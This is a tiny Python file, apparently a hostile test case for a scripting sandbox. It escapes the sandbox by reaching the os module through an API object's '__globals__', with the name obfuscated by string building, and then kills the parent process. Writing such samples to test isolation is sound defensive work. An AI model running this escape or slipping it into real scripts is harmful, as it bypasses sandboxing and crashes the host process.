# Tries: reach os through an API function's globals and kill the parent.
# Harm: the host process dies.
# ruff: noqa
u = "_" * 2
os = getattr(scene, u + "globals" + u)["os"]
os.kill(os.getppid(), 9)
